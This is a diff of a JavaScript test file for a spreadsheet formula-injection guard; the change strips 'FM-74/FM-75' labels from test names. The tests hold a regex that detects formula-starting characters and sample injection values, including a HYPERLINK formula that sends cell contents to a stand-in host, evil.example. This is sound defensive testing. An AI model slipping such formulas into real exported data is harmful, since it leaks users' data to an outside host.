@@ -13,7 +13,7 @@ const hostile = fc.string({
 });
 
 describe('a guarded cell', () => {
-  it('FM-74 is read back as it was before it was guarded', () => {
+  it('is read back as it was before it was guarded', () => {
     fc.assert(
       fc.property(hostile, (text) => {
         expect(unguardCell(guardCell(text))).toBe(text);
@@ -22,7 +22,7 @@ describe('a guarded cell', () => {
     );
   });
 
-  it('FM-75 never starts with a sign that makes a spreadsheet run it', () => {
+  it('never starts with a sign that makes a spreadsheet run it', () => {
     // oxlint-disable-next-line no-control-regex -- as in the writer
     const runs = /^[\s\u0000-\u001f\u007f\u00a0\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n\0]/;
     fc.assert(
@@ -42,7 +42,7 @@ describe('a guarded cell', () => {
     },
   );
 
-  it('FM-75 has no formula behind what a spreadsheet with other separators splits it at', () => {
+  it('has no formula behind what a spreadsheet with other separators splits it at', () => {
     const address = '1 Main St;=HYPERLINK("https://evil.example/"&A1);x';
     expect(guardCell(address)).toBe(`1 Main St;'=HYPERLINK("https://evil.example/"&A1);x`);
     expect(guardCell('Box\n=1+1\r\n\t@SUM(1)')).toBe("Box\n'=1+1\r\n\t'@SUM(1)");
